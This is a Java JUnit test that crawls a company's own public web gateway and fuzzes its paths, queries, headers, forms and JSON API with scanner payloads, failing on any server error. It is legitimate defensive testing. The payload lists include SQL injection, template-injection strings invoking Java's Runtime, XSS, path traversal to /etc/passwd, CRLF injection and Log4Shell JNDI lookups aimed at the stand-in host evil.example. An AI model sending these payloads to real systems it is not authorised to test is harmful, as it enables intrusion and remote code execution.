package com.northbeam.e2e;

import java.io.IOException;
import java.net.CookieManager;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;

import com.northbeam.testsupport.RawHttp;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Our own scanner: crawls every public route of the gateway (pages, their forms, the JSON
 * API, crawler files, share images, a real result and its report), then sends each one
 * classic scanner payloads in the path, the query, every form field and the headers
 * (Host, X-Forwarded-*, Accept, Range, junk and oversized cookies), and fails on any 5xx.
 * It scans the platform it starts, or an already running site given as
 * {@code -Dscan.url=http://host:port}. Some 4,700 requests take over a minute, so it runs
 * with {@code -Dscan=true}, as {@code bin/scan-site} runs it, rather than in every build.
 */
@EnabledIfSystemProperty(named = "scan", matches = "true")
class PublicSiteScanTests {

	/**
	 * Payloads of the classic scanners: injection, templates, traversal, encodings,
	 * sizes.
	 */
	static final List<String> PAYLOADS = List.of("'", "\"", "' OR '1'='1' --", "1; DROP TABLE lead", "{x}", "${7*7}",
			"#{7*7}", "*{7*7}", "__${T(java.lang.Runtime).getRuntime()}__::.x", "~{x}", "[[${7*7}]]", "{{7*7}}",
			"<script>alert(1)</script>", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "\u0000",
			"a\r\nSet-Cookie: x=1", "%", "%zz", "\u00e9\ud83d\ude00", "\ud800", "-1", "0", "99999999999999999999",
			"1e309", "NaN", "[]", "null", "http://evil.example/", "//evil.example", "javascript:alert(1)",
			"${jndi:ldap://evil.example/a}", "x".repeat(10_000));

	/** Raw request targets a well-behaved client would not send. */
	static final List<String> RAW_SUFFIXES = List.of("/%", "/%zz", "/%C3%28", "/%ED%A0%80", "/%00", "/..%2f..%2f",
			"/%2e%2e/%2e%2e/etc/passwd", "/;jsessionid=x", "/{x}", "/%7Bx%7D", "?%", "?a=%zz", "?q=%C0%AE", "//",
			"/.;/x");

	static final List<Map<String, String>> HEADERS = List.of(Map.of("Host", "evil.example"),
			Map.of("Host", "h".repeat(300)), Map.of("Host", "[::1"), Map.of("X-Forwarded-Host", "evil.example"),
			Map.of("X-Forwarded-Host", "{x}"), Map.of("X-Forwarded-Proto", "gopher"),
			Map.of("X-Forwarded-Port", "99999999999"), Map.of("X-Forwarded-Prefix", "/{x}/${7*7}"),
			Map.of("X-Forwarded-For", "'; DROP TABLE x; --"), Map.of("Forwarded", "for=\"[x\";proto=%"),
			Map.of("Accept", "application/xml"), Map.of("Accept", "*/*;q=nonsense"), Map.of("Accept", "image/png"),
			Map.of("Accept", "application/json"), Map.of("Accept", "text/html;q=0"), Map.of("Accept", "{x}/{y}"),
			Map.of("Range", "bytes=999-1"), Map.of("Range", "bytes=-"), Map.of("Range", "bytes=0-0,1-1,2-2,3-3"),
			Map.of("Range", "bytes=99999999999999999999-"), Map.of("Cookie", "SESSION=%%%; XSRF-TOKEN={x}"),
			Map.of("Cookie", "SESSION=" + "s".repeat(6000)), Map.of("Cookie", "nb_attribution=%7B%22x%22%3A%7B%7D"),
			Map.of("Cookie", "a"), Map.of("Accept-Language", "zz-ZZZZ-{x};q=x"), Map.of("Accept-Charset", "nonsense"),
			Map.of("If-None-Match", "\"{x}\""), Map.of("If-Modified-Since", "not a date"),
			Map.of("X-Request-Id", "\u00e9" + "r".repeat(300)), Map.of("Traceparent", "00-zz-zz-zz"),
			Map.of("Referer", "javascript:alert(1)"), Map.of("Content-Type", "multipart/form-data"),
			Map.of("Content-Type", "{x}"), Map.of("User-Agent", "${jndi:ldap://evil.example/a}"),
			Map.of("X-Oversized", "o".repeat(20_000)));

	private static Platform platform;

	private static URI site;

	private final HttpClient http = HttpClient.newBuilder()
		.cookieHandler(new CookieManager())
		.connectTimeout(Duration.ofSeconds(5))
		.followRedirects(HttpClient.Redirect.NEVER)
		.build();

	private final List<String> failures = new ArrayList<>();

	private final AtomicInteger sent = new AtomicInteger();

	@BeforeAll
	static void startPlatform() {
		String url = System.getProperty("scan.url", "");
		if (url.isBlank()) {
			platform = new Platform().start();
			url = platform.gatewayUrl();
		}
		site = URI.create(url);
	}

	@AfterAll
	static void stopPlatform() {
		if (platform != null) {
			platform.close();
		}
	}

	@Test
	void noInputMakesTheSiteAnswerWithA5xx() throws Exception {
		long started = System.nanoTime();
		Set<String> routes = crawl();
		assertThat(routes).as("routes found").hasSizeGreaterThan(15);
		List<Element> forms = new ArrayList<>();
		Set<String> shapes = new LinkedHashSet<>();
		for (String route : routes) {
			// One route of each shape (every article alike, every share image alike) is
			// enough.
			if (shapes.add(route.replaceAll("\\?.*", "").replaceAll("/[^/]*[-0-9][^/]*", "/*"))) {
				mutatePath(route);
				mutateQuery(route);
				mutateHeaders(route);
			}
		}
		Set<String> formShapes = new LinkedHashSet<>();
		for (String route : routes) {
			Document page = page(route);
			if (page != null) {
				for (Element form : page.select("form[method=post]")) {
					if (formShapes.add(form.attr("action") + form.select("[name]").eachAttr("name"))) {
						forms.add(form);
					}
				}
			}
		}
		for (Element form : forms) {
			mutateForm(form);
		}
		mutateApi();
		double seconds = (System.nanoTime() - started) / 1e9;
		System.out.printf("scan: %d routes (%d shapes), %d forms, %d requests in %.1f s, %d answered 5xx%n",
				routes.size(), shapes.size(), forms.size(), sent.get(), seconds, failures.size());
		assertThat(failures).as("requests answered with a 5xx").isEmpty();
	}

	/** Every same-site link, image and form action reachable from the entry points. */
	private Set<String> crawl() throws Exception {
		Set<String> found = new LinkedHashSet<>(
				List.of("/", "/articles", "/faq", "/search?q=managed", "/assessment", "/assessment?step=2", "/login",
						"/privacy", "/robots.txt", "/sitemap.xml", "/feed.xml", "/api/v1/assessment", "/oauth2/jwks"));
		String result = submitAssessment();
		found.add(result);
		found.add(result + "/report.pdf");
		found.add("/api/v1/assessment/submissions/" + result.substring(result.lastIndexOf('/') + 1));
		List<String> queue = new ArrayList<>(found);
		while (!queue.isEmpty() && found.size() < 80) {
			String route = queue.remove(0);
			HttpResponse<String> response = get(route);
			if (response == null) {
				continue;
			}
			String type = response.headers().firstValue("Content-Type").orElse("");
			List<String> links = new ArrayList<>();
			if (type.startsWith("text/html")) {
				Document document = Jsoup.parse(response.body(), site.resolve(route).toString());
				document.select("a[href], link[href], img[src], script[src], form[action], meta[content^=http]")
					.forEach((element) -> links.add(element.absUrl(element.hasAttr("href") ? "href"
							: element.hasAttr("src") ? "src" : element.hasAttr("action") ? "action" : "content")));
			}
			else if (type.contains("xml")) {
				Jsoup.parse(response.body(), "", org.jsoup.parser.Parser.xmlParser())
					.select("loc, link[href], uri, id")
					.forEach((element) -> links.add(element.hasAttr("href") ? element.attr("href") : element.text()));
			}
			for (String link : links) {
				String local = local(link);
				if (local != null && !local.startsWith("/dashboard") && !local.startsWith("/logout")
						&& found.add(local)) {
					queue.add(local);
				}
			}
		}
		return found;
	}

	private String local(String link) {
		try {
			URI uri = URI.create(link);
			if (uri.getHost() != null && !(uri.getHost().equals(site.getHost()) && uri.getPort() == site.getPort())) {
				return null;
			}
			if (uri.getRawPath() == null || uri.getRawPath().isEmpty()) {
				return null;
			}
			return uri.getRawPath() + ((uri.getRawQuery() != null) ? "?" + uri.getRawQuery() : "");
		}
		catch (IllegalArgumentException ex) {
			return null;
		}
	}

	private String submitAssessment() throws Exception {
		HttpResponse<String> questionnaire = get("/api/v1/assessment");
		assertThat(questionnaire).isNotNull();
		String consent = questionnaire.body()
			.replaceAll("(?s).*\"consent\"\\s*:\\s*\\{[^}]*\"version\"\\s*:\\s*\"([^\"]+)\".*", "$1");
		String body = """
				{"answers":{"employees":"51-200","internal_it":"it_team","growth":"fast","workload":"overloaded",
				 "skills_gaps":["cybersecurity"],"project_delays":"often","support_wait":"sometimes",
				 "coverage":"extended_hours","security_complexity":"complex","tech_footprint":["cloud"],
				 "control_preference":"keep_control","hiring":"somewhat_hard","predictability":"medium"},
				 "contact":{"name":"Scan Prospect","email":"scan@prospect.example","company":"Scan Ltd"},
				 "consent":{"accepted":true,"textVersion":"%s"}}""".formatted(consent);
		HttpResponse<String> created = http.send(HttpRequest.newBuilder(site.resolve("/api/v1/assessment/submissions"))
			.header("Content-Type", "application/json")
			.POST(HttpRequest.BodyPublishers.ofString(body))
			.build(), HttpResponse.BodyHandlers.ofString());
		assertThat(created.statusCode()).as(created.body()).isIn(201, 202);
		String url = created.body().replaceAll("(?s).*\"resultUrl\"\\s*:\\s*\"([^\"]+)\".*", "$1");
		return URI.create(url).getRawPath();
	}

	private void mutatePath(String route) {
		String path = route.contains("?") ? route.substring(0, route.indexOf('?')) : route;
		String parent = path.endsWith("/") ? path : path.substring(0, path.lastIndexOf('/') + 1);
		for (String payload : PAYLOADS) {
			raw("GET", parent + encode(payload).replace("+", "%20"), Map.of());
		}
		for (String suffix : RAW_SUFFIXES) {
			raw("GET", path + suffix, Map.of());
		}
	}

	private void mutateQuery(String route) {
		String path = route.contains("?") ? route.substring(0, route.indexOf('?')) : route;
		Set<String> names = new LinkedHashSet<>(List.of("q", "page", "step"));
		if (route.contains("?")) {
			for (String pair : route.substring(route.indexOf('?') + 1).split("&")) {
				names.add(pair.split("=")[0]);
			}
		}
		for (String name : names) {
			for (String payload : PAYLOADS) {
				raw("GET", path + "?" + name + "=" + encode(payload), Map.of());
			}
		}
	}

	private void mutateHeaders(String route) {
		for (Map<String, String> headers : HEADERS) {
			raw("GET", route, headers);
		}
	}

	/** Each field of the form in turn gets each payload; the rest keep their values. */
	private void mutateForm(Element form) throws Exception {
		String action = local(form.absUrl("action"));
		if (action == null || action.startsWith("/dashboard")) {
			return;
		}
		Map<String, String> fields = new LinkedHashMap<>();
		for (Element input : form.select("input[name], textarea[name], select[name]")) {
			String value = input.is("select") ? input.select("option").eachAttr("value").stream().findFirst().orElse("")
					: input.is("textarea") ? input.text() : input.attr("value");
			if (!input.is("input[type=checkbox], input[type=radio]") || input.hasAttr("checked")
					|| !fields.containsKey(input.attr("name"))) {
				fields.put(input.attr("name"), value);
			}
		}
		for (String name : fields.keySet()) {
			if (name.equals("_csrf")) {
				continue;
			}
			for (String payload : PAYLOADS) {
				Map<String, String> mutated = new LinkedHashMap<>(fields);
				mutated.put(name, payload);
				postForm(action, mutated);
			}
		}
		Map<String, String> withoutToken = new LinkedHashMap<>(fields);
		withoutToken.put("_csrf", "{x}");
		postForm(action, withoutToken);
		Map<String, String> unknown = new LinkedHashMap<>(fields);
		unknown.put("../../x", "${7*7}");
		unknown.put("class.module.classLoader.x", "1");
		postForm(action, unknown);
	}

	private void mutateApi() {
		String api = "/api/v1/assessment/submissions";
		List<String> bodies = new ArrayList<>(
				List.of("", "{", "[]", "null", "\"x\"", "{\"answers\":" + "[".repeat(3000) + "]".repeat(3000) + "}",
						"{\"answers\":{\"employees\":{\"$gt\":\"\"}}}", "{\"id\":\"{x}\"}",
						"{\"costs\":{\"tools_spend\":-1e999}}", "{\"contact\":{\"name\":\"a\\u0000\"}}"));
		for (String payload : PAYLOADS) {
			bodies.add("{\"answers\":{\"employees\":" + quote(payload) + "},\"contact\":{\"name\":" + quote(payload)
					+ ",\"email\":" + quote(payload) + ",\"company\":" + quote(payload)
					+ "},\"attribution\":{\"utm_source\":" + quote(payload) + ",\"referrer\":" + quote(payload) + "}}");
		}
		for (String contentType : List.of("application/json", "text/plain", "application/xml", "multipart/form-data",
				"application/x-www-form-urlencoded", "application/json;charset=nonsense", "{x}")) {
			for (String body : bodies) {
				rawWithBody("POST", api, Map.of("Content-Type", contentType), body.getBytes(StandardCharsets.UTF_8));
			}
		}
		rawWithBody("POST", api, Map.of("Content-Type", "application/json"),
				new byte[] { '{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}' });
		for (String method : List.of("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "OPTIONS")) {
			raw(method, api, Map.of());
			raw(method, "/", Map.of());
		}
	}

	private void postForm(String action, Map<String, String> fields) throws Exception {
		String body = fields.entrySet()
			.stream()
			.map((field) -> encode(field.getKey()) + "=" + encode(field.getValue()))
			.collect(Collectors.joining("&"));
		HttpResponse<String> response = http.send(HttpRequest.newBuilder(site.resolve(action))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.timeout(Duration.ofSeconds(30))
			.POST(HttpRequest.BodyPublishers.ofString(body))
			.build(), HttpResponse.BodyHandlers.ofString());
		record("POST", action, "form " + abbreviate(body), response.statusCode());
	}

	private HttpResponse<String> get(String route) {
		try {
			HttpResponse<String> response = http.send(
					HttpRequest.newBuilder(site.resolve(route)).timeout(Duration.ofSeconds(30)).build(),
					HttpResponse.BodyHandlers.ofString());
			record("GET", route, "crawl", response.statusCode());
			return response;
		}
		catch (IOException | InterruptedException | IllegalArgumentException ex) {
			failures.add("GET " + route + " crawl: " + ex);
			return null;
		}
	}

	private Document page(String route) throws Exception {
		HttpResponse<String> response = get(route);
		if (response == null || !response.headers().firstValue("Content-Type").orElse("").startsWith("text/html")) {
			return null;
		}
		return Jsoup.parse(response.body(), site.resolve(route).toString());
	}

	private void raw(String method, String target, Map<String, String> headers) {
		rawWithBody(method, target, headers, null);
	}

	private void rawWithBody(String method, String target, Map<String, String> headers, byte[] body) {
		try {
			RawHttp.Response response = RawHttp.send(site, method, target, headers, body);
			record(method, target,
					headers + " " + abbreviate(body != null ? new String(body, StandardCharsets.UTF_8) : ""),
					response.status());
		}
		catch (RuntimeException ex) {
			failures.add(method + " " + abbreviate(target) + " " + headers.keySet() + ": no answer " + ex);
		}
	}

	private void record(String method, String target, String mutation, int status) {
		sent.incrementAndGet();
		if (status >= 500) {
			failures.add(status + " " + method + " " + abbreviate(target) + " " + abbreviate(mutation));
		}
	}

	private static String encode(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8);
	}

	private static String quote(String text) {
		StringBuilder json = new StringBuilder("\"");
		for (char c : text.toCharArray()) {
			if (c == '"' || c == '\\') {
				json.append('\\').append(c);
			}
			else if (c < 0x20) {
				json.append(String.format("\\u%04x", (int) c));
			}
			else {
				json.append(c);
			}
		}
		return json.append('"').toString();
	}

	private static String abbreviate(String text) {
		return (text.length() > 160) ? text.substring(0, 160) + "..." : text;
	}

}
